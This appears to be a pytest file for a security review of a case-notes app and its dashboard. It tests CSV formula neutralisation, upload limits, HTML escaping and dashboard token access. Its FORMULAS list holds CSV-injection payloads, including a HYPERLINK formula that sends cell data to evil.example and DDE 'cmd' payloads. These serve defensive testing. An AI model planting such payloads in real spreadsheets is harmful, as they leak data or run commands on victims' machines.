"""Case-notes files and the maintainers' dashboard against what a hostile or careless file, log
row or network can hold (the security review of the public app).

* CSV files (case notes and the dashboard's downloads) open safely in a spreadsheet: a value
  that would run as a formula is written with a leading ``'`` (text cells only: numbers stay
  numbers), the file starts with a UTF-8 byte order mark, and case notes load back exactly.
* A case-notes file that cannot be read (a bare carriage return, a huge value, NUL bytes,
  random bytes) is refused with the case-notes message, in the visitor's language, never with
  the generic "something went wrong".
* A file over ``casenotes.MAX_BYTES`` is refused with a size message: by the kernel (widget
  tests) and, in Chromium, by the page before it is sent (a 12 MB file would otherwise drop
  the page's connection); the page keeps working afterwards.
* The dashboard draws whatever ids the log holds as plain text (no matplotlib math text),
  escapes them in tables, survives a row the ``sessions`` rollup keeps after its event was
  deleted, and draws each chart and table on its own.
* ``./manage summary``: the user's ``--port`` replaces the default, and bound to an address
  other than 127.0.0.1 the dashboard requires a token.
"""

from __future__ import annotations

import base64
import csv
import datetime as dt
import html
import io
import os
import random
import re
import sqlite3
import subprocess
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from dataclasses import astuple, replace
from pathlib import Path

import matplotlib as mpl
import pandas as pd
import pytest
import lanes
from browser import PageFactory, artifact_path, full_page_screenshot
from playwright.sync_api import Locator, expect
from voila_server import PROJECT_ROOT, VoilaServer, free_port, stop_server

from widgets import casenotes, dashboard, demo
from widgets.log import SQLiteStore
from widgets.summary import summarize
from widgets.view import GuideView

NOW = dt.datetime(2026, 11, 26, tzinfo=dt.timezone.utc)
HANGUL = re.compile(r"[\uac00-\ud7a3]")
HEADER = ",".join(casenotes.COLUMNS) + "\n"
#: Values a spreadsheet would run as formulas, as a visitor (or an attacker) could type them.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
#: Values that already start with the quote the writer adds, and one at the field limit.
QUOTED = ["'=already quoted", "''two quotes", "'plain", "'", "'-", "=" + "x" * (casenotes.MAX_FIELD - 1)]


def upload(view: GuideView, content: bytes, name: str = "notes.csv") -> None:
    """Load ``content`` through the notes panel's file upload, as the page sends it."""
    view.notes_panel.upload.value = ({"name": name, "type": "text/csv", "size": len(content),
                                "content": memoryview(content), "last_modified": NOW},)


def open_notes(lang: str) -> GuideView:
    view = GuideView(lang=lang).start()
    view.notes_panel.toggle.value = True
    return view


def status_text(view: GuideView) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", view.notes_panel.status.value))


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


# --------------------------------------------------------------------------- 1. formulas in CSV


def test_case_notes_csv_neutralises_formulas_and_loads_back_exactly() -> None:
    notes = [casenotes.make_note(when=FORMULAS[3], channel="chat", agent=FORMULAS[0],
                                 reference=FORMULAS[1], promised=FORMULAS[2]),
             casenotes.make_note(agent="김민지", reference="-123", promised="@home, +1 day")]
    text = casenotes.to_csv(notes)
    rows = csv_rows(text)
    assert rows[0] == list(casenotes.COLUMNS)
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert rows[1] == ["'" + FORMULAS[3], "chat", "'" + FORMULAS[0], "'" + FORMULAS[1],
                       "'" + FORMULAS[2]]
    assert rows[2] == ["", "", "김민지", "'-123", "'@home, +1 day"]
    for data in (text, text.encode("utf-8")):
        assert casenotes.parse(data) == notes


def test_case_notes_csv_round_trips_values_starting_with_a_quote() -> None:
    notes = [casenotes.make_note(agent=value, promised=value) for value in QUOTED]
    assert [n.agent for n in notes] == QUOTED  # clean() keeps them as typed
    text = casenotes.to_csv(notes)
    assert [row[2] for row in csv_rows(text)[1:]] == ["'" + value for value in QUOTED]
    assert casenotes.parse(text) == notes
    assert casenotes.parse(casenotes.to_markdown(notes)) == notes
    # only the quote the writer adds is removed: a hand-made cell "'abc" keeps its quote
    hand_made = HEADER + "'abc,'chat,'=x,''=y,'''\n"
    assert astuple(casenotes.parse(hand_made)[0]) == ("'abc", "'chat", "=x", "'=y", "''")


def test_case_notes_csv_has_a_bom_and_loads_with_or_without_it() -> None:
    notes = [casenotes.make_note(when="11월 26일", channel="phone", agent="박지민")]
    text = casenotes.to_csv(notes)
    assert text.startswith("\ufeff") and text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    bare = text.removeprefix("\ufeff")
    for data in (text, bare, text.encode("utf-8"), bare.encode("utf-8")):
        assert casenotes.parse(data) == notes


def test_case_notes_download_link_is_the_safe_csv() -> None:
    view = open_notes("ko")
    view.notes_panel.agent.value = FORMULAS[0]
    view.notes_panel.reference.value = FORMULAS[1]
    view.notes_panel.add_button.click()
    link = re.search(r"download='amazon-contact-notes.csv' href='data:text/csv;charset=utf-8,([^']+)'",
                     view.notes_panel.links.value)
    assert link, view.notes_panel.links.value
    data = urllib.request.unquote(link.group(1))
    assert data.startswith("\ufeff")
    assert csv_rows(data)[1][2:4] == ["'" + FORMULAS[0], "'" + FORMULAS[1]]
    fresh = open_notes("ko")
    upload(fresh, data.encode("utf-8"))
    assert fresh.notes_panel.notes == view.notes_panel.notes


@pytest.fixture(scope="module")
def demo_url(tmp_path_factory: pytest.TempPathFactory) -> str:
    path = tmp_path_factory.mktemp("hardening-demo") / "events.sqlite3"
    with SQLiteStore(path) as store:
        demo.fill(store, 1500, seed=4, start=dt.date(2025, 4, 1), days=3)
    return f"sqlite://{path}"


def csv_downloads(downloads_html: str) -> dict[str, bytes]:
    """The dashboard's CSV files by table name, decoded from their data: links."""
    links = re.findall(r'download="guide-([a-z_]+?)(?:-[^"]*)?\.csv" href="data:text/csv;charset=utf-8;base64,([^"]+)"',
                       downloads_html)
    return {name: base64.b64decode(data) for name, data in links}


def test_dashboard_csv_neutralises_text_cells_only(demo_url: str) -> None:
    summary = summarize(demo_url)
    funnel = pd.DataFrame({
        "node": ["=HYPERLINK(\"x\")", "+cmd", "-x", "@a", "\tb", "'=c", "plain", "결제"],
        "views": [-3, 5, 0, 1, 2, 3, 4, 5],
        "drop_off": [-0.5, 0.25, float("nan"), 1.0, 0.0, 0.5, 0.5, 0.5],
    })
    summary = replace(summary, funnel=funnel)
    files = csv_downloads(dashboard.csv_links(summary))
    assert sorted(files) == sorted(summary.frames())
    data = files["funnel"]
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8 (Korean ids show)
    rows = csv_rows(data.decode("utf-8"))
    assert [row[0] for row in rows[1:]] == ["'=HYPERLINK(\"x\")", "'+cmd", "'-x", "'@a", "'\tb",
                                            "''=c", "plain", "결제"]
    assert [row[1] for row in rows[1:]][:2] == ["-3", "5"] and rows[1][2] == "-0.5"
    back = pd.read_csv(io.BytesIO(data))
    assert back["views"].tolist() == funnel["views"].tolist()  # numbers are still numbers
    assert back["drop_off"].iloc[0] == -0.5
    for name, content in files.items():  # every table, every file: a BOM, then the header
        assert content.startswith(b"\xef\xbb\xbf"), name
        assert pd.read_csv(io.BytesIO(content)).columns.tolist() == list(summary.frames()[name].columns)


# --------------------------------------------------------------------------- 2. parse errors


BAD_FILES = {
    "bare CR inside a field": (HEADER + "26 Nov\rlater,chat,Kim,R-1,refund\n").encode(),
    "a 129 KB field": (HEADER + "x" * (129 * 1024) + ",chat,Kim,R-1,refund\n").encode(),
    "a quoted 129 KB field": (HEADER + '"' + "y" * (129 * 1024) + '",chat,Kim,R-1,refund\n').encode(),
    "not UTF-8": b"\xff\xfe\x00w\x00h",
    "wrong columns": b"a,b\n1,2\n",
}


@pytest.mark.parametrize("name", list(BAD_FILES))
def test_unreadable_files_raise_case_notes_errors(name: str) -> None:
    with pytest.raises(casenotes.CaseNotesError) as caught:
        casenotes.parse(BAD_FILES[name])
    for lang in ("ko", "en"):
        reason = caught.value.explain(lang)
        assert reason and (HANGUL.search(reason) if lang == "ko" else not HANGUL.search(reason))


def test_parse_raises_nothing_but_case_notes_errors_on_garbage() -> None:
    rng = random.Random(7)
    alphabet = ["a", "김", ",", '"', "'", "\r", "\n", "\r\n", "|", "#", "\\", "\x00", "=", " ",
                "\ufeff", "-", "\t"]
    starts = ["", HEADER, "| a | b | c | d | e |\n|---|---|---|---|---|\n", "# 기록\n\n"]
    for _ in range(400):
        text = rng.choice(starts) + "".join(rng.choice(alphabet) for _ in range(rng.randrange(60)))
        data = text.encode("utf-8") if rng.random() < 0.5 else text
        if rng.random() < 0.1:
            data = bytes(rng.randrange(256) for _ in range(rng.randrange(40)))
        try:
            casenotes.parse(data)
        except casenotes.CaseNotesError:
            pass


@pytest.mark.parametrize("name", ["bare CR inside a field", "a 129 KB field", "not UTF-8"])
@pytest.mark.parametrize("lang", ["ko", "en"])
def test_view_shows_the_case_notes_error_not_the_generic_one(name: str, lang: str) -> None:
    view = open_notes(lang)
    view.notes_panel.agent.value = "Kim"
    view.notes_panel.add_button.click()
    upload(view, BAD_FILES[name])
    assert len(view.notes_panel.notes) == 1  # nothing lost
    assert view.notice.layout.display == "none" and not view._error, view.notice.value
    shown = status_text(view)
    prefix = casenotes.LABELS["error"](lang).split("{reason}")[0]
    assert shown.startswith(prefix), shown
    reason = shown[len(prefix):]
    assert reason and (HANGUL.search(reason) if lang == "ko" else not HANGUL.search(reason)), shown


def test_korean_page_explains_in_korean_and_follows_a_language_switch() -> None:
    view = open_notes("ko")
    upload(view, b"a,b\n1,2\n")
    shown = status_text(view)
    assert shown.startswith("이 파일은 불러올 수 없어요: ")
    assert not re.search(r"expected|line \d|columns", shown), shown  # no English inside Korean
    view.language.value = "en"
    assert status_text(view).startswith("This file can’t be loaded: line 1: expected the columns")


# --------------------------------------------------------------------------- 3. upload size


def padded_csv(size: int) -> bytes:
    """A well-formed case-notes CSV of exactly ``size`` bytes (one note, a long padding row)."""
    head = (HEADER + "26 Nov,chat,Kim,R-1,refund\n").encode()
    return head + b"," * 4 + b"x" * (size - len(head) - 5) + b"\n"


@pytest.mark.parametrize("lang", ["ko", "en"])
@pytest.mark.parametrize("size", [casenotes.MAX_BYTES + 1 if hasattr(casenotes, "MAX_BYTES") else 256 * 1024 + 1,
                                  12 * 1024 * 1024])
def test_upload_over_the_limit_gets_the_size_message(lang: str, size: int) -> None:
    view = open_notes(lang)
    view.notes_panel.agent.value = "Lee"
    view.notes_panel.add_button.click()
    upload(view, padded_csv(size))
    assert len(view.notes_panel.notes) == 1 and not view._error
    expected = casenotes.error_message(casenotes.too_large())(lang)
    assert status_text(view) == expected
    assert ("파일이 너무 커요" in expected) if lang == "ko" else ("too large" in expected)
    assert f"{casenotes.MAX_BYTES // 1024} KB" in expected


def test_upload_at_the_limit_still_loads() -> None:
    view = open_notes("en")
    data = padded_csv(casenotes.MAX_BYTES)
    assert len(data) == casenotes.MAX_BYTES
    with pytest.raises(casenotes.CaseNotesError):  # the padding row is one long invalid row
        casenotes.parse(data)
    good = casenotes.to_csv([casenotes.make_note(agent="Kim")]).encode()
    upload(view, good + b"\n" * (casenotes.MAX_BYTES - len(good)))
    assert [n.agent for n in view.notes_panel.notes] == ["Kim"], status_text(view)


def test_the_page_gets_the_limit_and_message_from_the_guide() -> None:
    view = open_notes("ko")
    intro = view.notes_panel.intro.value
    limit = re.search(r"data-upload-limit='(\d+)'", intro)
    message = re.search(r"data-upload-too-large='([^']*)'", intro)
    assert limit and int(limit.group(1)) == casenotes.MAX_BYTES
    assert message and html.unescape(message.group(1)) == casenotes.error_message(casenotes.too_large())("ko")
    view.language.value = "en"
    message = re.search(r"data-upload-too-large='([^']*)'", view.notes_panel.intro.value)
    assert html.unescape(message.group(1)) == casenotes.error_message(casenotes.too_large())("en")
    assert "guide-notes-status" in view.notes_panel.status._dom_classes


# The same in Chromium: the page refuses the file before sending it.

@pytest.fixture(scope="module")
def hardening_server(voila_servers) -> Iterator[VoilaServer]:
    with voila_servers.guide() as server:
        yield server


def notes_panel(page, lang: str = "ko") -> Locator:
    page.get_by_role("button", name=casenotes.LABELS["toggle"](lang), exact=True).click()
    panel = page.locator(".guide .guide-panel").filter(has_text=casenotes.TITLE(lang))
    expect(panel).to_be_visible()
    return panel


def choose_file(panel: Locator, path: Path, lang: str = "ko") -> None:
    button = panel.locator("button.widget-upload").filter(has_text=casenotes.LABELS["load"](lang))
    with panel.page.expect_file_chooser() as chooser:
        button.click()
    chooser.value.set_files(str(path))


def test_page_refuses_a_12_mb_file_and_keeps_working(page_factory: PageFactory,
                                                     hardening_server: VoilaServer,
                                                     tmp_path: Path) -> None:
    hardening_server.wait_until_preheated(timeout=120)
    expect.set_options(timeout=20_000)
    big = tmp_path / "notes-12mb.csv"
    big.write_bytes(padded_csv(12 * 1024 * 1024))
    small = tmp_path / "notes.csv"
    small.write_text(casenotes.to_csv([casenotes.make_note(agent="박지민", reference="=1+1")]),
                     encoding="utf-8")
    page, guard = page_factory.new_page("case notes, a 12 MB file")
    try:
        page.goto(hardening_server.url, wait_until="commit")
        expect(page.locator(".guide")).to_be_visible(timeout=120_000)
        panel = notes_panel(page)
        headers = casenotes.HEADERS
        panel.get_by_label(headers["agent"]("ko"), exact=True).fill("김민지")
        page.get_by_role("button", name=casenotes.LABELS["add"]("ko"), exact=True).click()
        cells = panel.locator(".guide-notes-table tr td")
        expect(cells).to_have_count(len(casenotes.COLUMNS))

        choose_file(panel, big)
        status = panel.get_by_role("status")
        expect(status).to_contain_text("파일이 너무 커요")  # the size message, in Korean
        expect(status).to_have_text(casenotes.error_message(casenotes.too_large())("ko"))
        full_page_screenshot(page, artifact_path("hardening-notes-too-large.png"))

        # the page still talks to its kernel: a click adds a note, a small file loads
        panel.get_by_label(headers["agent"]("ko"), exact=True).fill("Sam")
        page.get_by_role("button", name=casenotes.LABELS["add"]("ko"), exact=True).click()
        expect(cells).to_have_count(2 * len(casenotes.COLUMNS))
        choose_file(panel, small)
        expect(panel.get_by_role("status")).to_have_text(casenotes.LABELS["loaded"]("ko").format(count=1))
        expect(cells).to_have_count(3 * len(casenotes.COLUMNS))
        expect(cells.nth(2 * len(casenotes.COLUMNS) + 3)).to_have_text("=1+1")
        assert guard.clean, guard.report()
    finally:
        page_factory.close_page(page)
        expect.set_options(timeout=5_000)


# --------------------------------------------------------------------------- 4. the dashboard


def store_with_rows(directory: Path, rows: list[tuple], delete_session: str | None = None) -> str:
    """A demo log plus ``rows`` written straight into ``events`` by SQL (as an older or another
    writer could), optionally then deleting one session's events (its rollup row stays)."""
    path = directory / "events.sqlite3"
    with SQLiteStore(path) as store:
        demo.fill(store, 600, seed=9, start=dt.date(2025, 4, 1), days=2)
    conn = sqlite3.connect(path)
    with conn:
        conn.executemany("INSERT INTO events (ts, session, node, action, option, lang, elapsed_ms) "
                         "VALUES (?, ?, ?, ?, ?, ?, ?)", rows)
        if delete_session:
            conn.execute("DELETE FROM events WHERE session = ?", (delete_session,))
    conn.close()
    return f"sqlite://{path}"


ODD_IDS = [r"$\frac{x$", "<b>bold</b>&amp;", "$x_1$ and $y^2$", "=HYPERLINK(\"x\",'y')", "a_b_c"]


def odd_rows(session: str) -> list[tuple]:
    rows = [("2025-04-01T10:00:00.000000Z", session, ODD_IDS[0], "enter", None, "ko", None)]
    for i, node in enumerate(ODD_IDS[1:], start=1):
        rows.append((f"2025-04-01T10:00:0{i}.000000Z", session, node, "enter", None, "ko", 10))
        rows.append((f"2025-04-01T10:00:0{i}.500000Z", session, node, "choose", ODD_IDS[0], "ko", 500))
    return rows


def table_cells(table_html: str) -> list[str]:
    """The text of every data cell of a styled table."""
    return [html.unescape(cell) for cell in re.findall(r"<td [^>]*>(.*?)</td>", table_html, re.S)]


def assert_fully_drawn(board: dashboard.Dashboard) -> None:
    assert board.status.value == "" and board.content.layout.display is None, board.status.value
    assert all(bytes(image.value).startswith(b"\x89PNG") for image in board.charts)
    assert "dash-failed" not in board.kpis.value + board.downloads.value
    assert all("dash-failed" not in table.value for table in board.tables.children)


def test_dashboard_draws_odd_ids_as_text(tmp_path: Path) -> None:
    url = store_with_rows(tmp_path, odd_rows("odd-session"))
    board = dashboard.Dashboard(url)
    board.refresh()
    assert_fully_drawn(board)
    titles = [board.tables.get_title(i) for i in range(len(board.tables.children))]
    funnel_html = board.tables.children[titles.index("funnel")].value
    choices_html = board.tables.children[titles.index("choices")].value
    # Steps the flow does not have are shown as such, by their id, as text.
    removed = {dashboard.REMOVED.format(i) for i in ODD_IDS}
    assert removed <= set(table_cells(funnel_html)), table_cells(funnel_html)
    assert dashboard.REMOVED.format(ODD_IDS[0]) in table_cells(choices_html)
    assert "<b>" not in funnel_html + choices_html  # escaped, never markup
    funnel_csv = csv_rows(csv_downloads(board.downloads.value)["funnel"].decode("utf-8"))
    assert "'" + ODD_IDS[3] in [row[0] for row in funnel_csv]
    assert mpl.rcParams["text.parse_math"] is True  # the session's own plots are unchanged


def test_dashboard_survives_a_deleted_event_the_rollup_keeps(tmp_path: Path) -> None:
    url = store_with_rows(tmp_path, odd_rows("gone-session"), delete_session="gone-session")
    conn = sqlite3.connect(url.removeprefix("sqlite://"))
    assert conn.execute("SELECT count(*) FROM events WHERE session = 'gone-session'").fetchone() == (0,)
    entered, = conn.execute("SELECT entered FROM sessions WHERE session = 'gone-session'").fetchone()
    conn.close()
    assert ODD_IDS[0] in entered  # the rollup still holds the deleted event's node
    board = dashboard.Dashboard(url)
    board.refresh()
    assert_fully_drawn(board)
    assert board.summary is not None and ODD_IDS[0] in board.summary.funnel["node"].tolist()


def test_dashboard_survives_a_start_time_that_is_not_a_date(tmp_path: Path) -> None:
    url = store_with_rows(tmp_path, [("not a time", "odd-time", "problem", "enter", None, "ko", None)])
    board = dashboard.Dashboard(url)
    board.refresh()
    assert board.status.value == "" and "dash-kpi" in board.kpis.value
    assert board.summary.sessions == summarize(url).sessions


def test_each_part_of_the_dashboard_fails_on_its_own(demo_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(*_args):
        raise ValueError("a part that cannot be drawn")

    monkeypatch.setitem(dashboard.CHARTS, "the funnel chart", boom)
    caption, formats, bars = dashboard.TABLE_STYLES["time"]
    monkeypatch.setitem(dashboard.TABLE_STYLES, "time", (caption, {**formats, "node": boom}, bars))
    board = dashboard.Dashboard(demo_url)
    board.refresh()
    assert board.status.value == "" and board.content.layout.display is None
    funnel = list(dashboard.CHARTS).index("the funnel chart")
    for i, (image, note) in enumerate(zip(board.charts, board.chart_notes)):
        if i == funnel:
            assert image.layout.display == "none" and "cannot be shown" in note.value
        else:
            assert bytes(image.value).startswith(b"\x89PNG") and note.layout.display == "none"
    titles = [board.tables.get_title(i) for i in range(len(board.tables.children))]
    assert sorted(titles) == sorted(summarize(demo_url).frames())
    for title, table in zip(titles, board.tables.children):
        assert ("cannot be shown" in table.value) == (title == "time"), title
    assert "dash-kpi" in board.kpis.value and "funnel.csv" in board.downloads.value

    monkeypatch.undo()  # a later refresh draws everything again
    board.refresh()
    assert_fully_drawn(board)


def test_kpis_and_downloads_fail_on_their_own(demo_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(*_args):
        raise ValueError("cannot")

    monkeypatch.setattr(dashboard, "kpis", boom)
    monkeypatch.setattr(dashboard, "csv_links", boom)
    board = dashboard.Dashboard(demo_url)
    board.refresh()
    assert "cannot be shown" in board.kpis.value and "cannot be shown" in board.downloads.value
    assert all(bytes(image.value).startswith(b"\x89PNG") for image in board.charts)


# --------------------------------------------------------------------------- 5, 6. ./manage summary


class ManagedDashboard:
    """``./manage summary`` running in a subprocess (its own session), and what it printed."""

    def __init__(self, args: list[str], env: dict[str, str], host: str, port: int, output: Path) -> None:
        self.host, self.port, self.output = host, port, output
        with open(output, "wb") as log:
            process = subprocess.Popen([str(PROJECT_ROOT / "manage"), "summary", *args], cwd=PROJECT_ROOT,
                                       env=env, stdin=subprocess.DEVNULL, stdout=log,
                                       stderr=subprocess.STDOUT, start_new_session=True)
        self.server = VoilaServer(process, port, PROJECT_ROOT / "notebooks" / "summary.ipynb",
                                  output, env, pool_size=0)

    @property
    def base(self) -> str:
        return f"http://{self.host}:{self.port}/"

    def text(self) -> str:
        return self.output.read_text(encoding="utf-8", errors="replace")

    def wait_until_answering(self, timeout: float = 90.0) -> None:
        deadline = time.monotonic() + timeout
        while True:
            if self.server.process.poll() is not None:
                raise AssertionError(f"./manage summary exited:\n{self.text()}")
            try:
                with urllib.request.urlopen(self.base + "voila/static/voila.js", timeout=5) as response:
                    if response.status == 200:
                        return
            except (urllib.error.URLError, ConnectionError, TimeoutError, OSError):
                pass
            if time.monotonic() > deadline:
                raise AssertionError(f"./manage summary did not answer on {self.base}:\n{self.text()}")
            time.sleep(0.3)

    def get(self, path: str = "") -> tuple[int, str, str]:
        """(status, Location header, body) of a GET, without following redirects."""
        class NoRedirect(urllib.request.HTTPRedirectHandler):
            def redirect_request(self, *args, **kwargs):
                return None

        opener = urllib.request.build_opener(NoRedirect)
        try:
            with opener.open(self.base + path, timeout=120) as response:
                return response.status, "", response.read().decode("utf-8", "replace")
        except urllib.error.HTTPError as error:
            return error.code, error.headers.get("Location", ""), error.read().decode("utf-8", "replace")


@pytest.fixture()
def manage_env(demo_url: str) -> dict[str, str]:
    env = {**os.environ, "GUIDE_LOG_URL": demo_url, "PYTHONUNBUFFERED": "1"}
    env.pop("JUPYTER_TOKEN", None)
    return env


@pytest.fixture()
@lanes.needs("server")
def managed(manage_env: dict[str, str], tmp_path: Path) -> Iterator:
    started: list[ManagedDashboard] = []

    def start(host: str, *args: str) -> ManagedDashboard:
        port = free_port()
        ip_args = [f"--ip={host}"] if host != "127.0.0.1" else []
        board = ManagedDashboard([*ip_args, f"--port={port}", "--preheat_kernel=False", *args],
                                 manage_env, host, port, tmp_path / f"manage-{port}.log")
        started.append(board)
        board.wait_until_answering()
        return board

    yield start
    for board in started:
        stop_server(board.server)


def test_manage_summary_takes_the_users_port(managed) -> None:
    board = managed("127.0.0.1")
    status, _, body = board.get()
    assert status == 200 and "Dashboard(" in body  # on 127.0.0.1 no token is needed
    assert "token=" not in board.text()
    assert f":{board.port}/" in board.text()


def test_manage_summary_off_loopback_requires_a_token(managed) -> None:
    board = managed("127.0.0.2")
    printed = re.findall(rf"http://127\.0\.0\.2:{board.port}/\?token=([A-Za-z0-9_-]+)", board.text())
    assert len(printed) == 1 and len(printed[0]) >= 40, board.text()  # printed once, in full
    token = printed[0]
    assert not any(token in part for part in board.server.psutil_process.cmdline())  # not in ps
    status, location, body = board.get()
    assert status in (302, 403) and "Dashboard(" not in body
    assert status == 403 or "/login" in location
    status, location, body = board.get("?token=not-the-token")
    assert status in (302, 403) and "Dashboard(" not in body
    status, _, body = board.get(f"?token={token}")
    assert status == 200 and "Dashboard(" in body


def test_manage_summary_refuses_an_empty_token_off_loopback(manage_env: dict[str, str]) -> None:
    proc = subprocess.run([str(PROJECT_ROOT / "manage"), "summary", "--ip=127.0.0.2",
                           f"--port={free_port()}", "--Voila.token="], cwd=PROJECT_ROOT,
                          env=manage_env, capture_output=True, text=True, timeout=120,
                          stdin=subprocess.DEVNULL)
    assert proc.returncode == 2 and "token" in proc.stderr, proc.stdout + proc.stderr
